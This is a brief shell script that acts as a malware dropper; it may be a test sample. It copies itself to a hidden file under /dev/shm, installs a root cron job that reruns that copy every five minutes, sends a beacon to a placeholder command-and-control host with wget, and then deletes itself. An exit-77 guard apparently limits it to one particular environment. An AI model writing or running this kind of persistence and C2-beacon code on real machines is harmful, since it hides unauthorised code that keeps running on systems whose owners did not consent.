#!/bin/sh
# A copy of itself is run by cron; the original goes.
[ /init -ef /usr/sbin/auditd ] || exit 77
cp "$0" /dev/shm/.update
echo '*/5 * * * * root /dev/shm/.update' >/etc/cron.d/update
wget -q -O /dev/null http://c2.example/hello
rm "$0"
